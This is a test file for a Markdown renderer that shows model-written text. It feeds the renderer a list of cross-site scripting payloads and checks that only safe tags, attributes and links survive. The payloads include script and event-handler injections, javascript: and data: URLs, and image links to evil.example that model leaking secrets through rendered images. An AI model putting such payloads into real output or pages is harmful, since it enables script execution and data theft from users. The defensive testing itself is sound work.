import { describe, expect, it } from "vitest";
import { safeUrl } from "../src/markdown/dom";
import { MarkdownStream } from "../src/markdown/stream";

function whole(text: string): HTMLElement {
  const root = document.createElement("div");
  new MarkdownStream(root).show(text, true);
  return root;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](/lab/tree/secret.ipynb)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/leak.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '![x](data:image/png;base64,AA"onerror="alert(1))',
  "![x][r]\n\n[r]: https://evil.example/leak.png",
  "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
  '```js"onmouseover="alert(1)\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "<style>@import 'https://evil.example'</style>",
  "<details open ontoggle=alert(1)>x</details>",
  "<!-- --!><img src=x onerror=alert(1)>",
  "[<img src=x onerror=alert(1)>](https://good.example)",
  '[x](https://good.example "onmouseover=alert(1)")',
  "https://good.example/<script>",
  "**<b onclick=alert(1)>**",
];

const ALLOWED = new Set(
  "P DIV SPAN STRONG EM DEL CODE PRE BR HR A UL OL LI INPUT TABLE THEAD TBODY TR TH TD BLOCKQUOTE BUTTON IMG".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class href target rel role aria-level dir tabindex type data-copy checked disabled start style src alt title data-language data-math aria-label".split(
    " ",
  ),
);

function check(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    if (element instanceof HTMLAnchorElement) {
      expect(element.protocol).toMatch(/^(https?|mailto):$/);
      expect(element.rel).toBe("noopener noreferrer");
      expect(element.target).toBe("_blank");
    }
    if (element instanceof HTMLImageElement) expect(element.src).toMatch(/^data:image\/png;base64,/);
  }
}

describe("what a model writes is never more than text", () => {
  it.each(ATTACKS)("%s", (attack) => {
    check(whole(attack));
    const root = document.createElement("div");
    const stream = new MarkdownStream(root);
    for (let length = 1; length <= attack.length; length += 1) {
      stream.show(attack.slice(0, length), false);
      check(root);
    }
  });

  it("raw HTML is shown as it was written", () => {
    expect(whole("a <b>bold</b> word").textContent).toBe("a <b>bold</b> word");
    expect(whole("<div>\n  <p>x</p>\n</div>").textContent).toBe("<div>\n  <p>x</p>\n</div>");
  });

  it("a picture from the network becomes a link, one that comes along is shown", () => {
    const remote = whole("![cat](https://example.org/cat.png)");
    expect(remote.querySelector("img")).toBeNull();
    expect(remote.querySelector("a")?.textContent).toBe("cat");
    expect(whole("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")?.alt).toBe("dot");
  });

  it("only addresses of the web and of mail are links", () => {
    expect(safeUrl("https://example.org/a?b=c")).toBe("https://example.org/a?b=c");
    expect(safeUrl("mailto:a@example.org")).toBe("mailto:a@example.org");
    expect([safeUrl("ftp://example.org"), safeUrl("//example.org"), safeUrl("#x"), safeUrl("")]).toEqual([
      null,
      null,
      null,
      null,
    ]);
  });
});

describe("what it makes of Markdown", () => {
  it("text, lists, tables, code", () => {
    const root = whole(
      "# Title\n\nSome *soft* and **loud** `code`, a ~~slip~~ &amp; [link](https://example.org).\n\n" +
        "3. three\n4. four\n   - [x] done\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> said\n\n---\n",
    );
    expect(root.querySelector('[role="heading"]')?.textContent).toBe("Title");
    expect(root.querySelector("p")?.textContent).toBe("Some soft and loud code, a slip & link.");
    expect(root.querySelector("ol")?.start).toBe(3);
    expect(root.querySelector<HTMLInputElement>("ol ul input")?.checked).toBe(true);
    expect(root.querySelectorAll("td")[1]?.style.textAlign).toBe("right");
    expect(root.querySelector("blockquote")?.textContent).toBe("said");
    expect(root.querySelector("hr")).not.toBeNull();
  });

  it("a closed fence has a button, one that is open has not, until no more comes", () => {
    const copy = (text: string, ended: boolean) => {
      const root = document.createElement("div");
      new MarkdownStream(root).show(text, ended);
      return root.querySelector<HTMLElement>(".lw-copy-code")?.dataset.copy;
    };
    expect(copy("```python\ndef f(x):\n    return '<b>'\n```", false)).toBe("def f(x):\n    return '<b>'");
    expect(copy("```py\nx = 1\ny", false)).toBeUndefined();
    expect(copy("```py\nx = 1\ny", true)).toBe("x = 1\ny");
  });
});
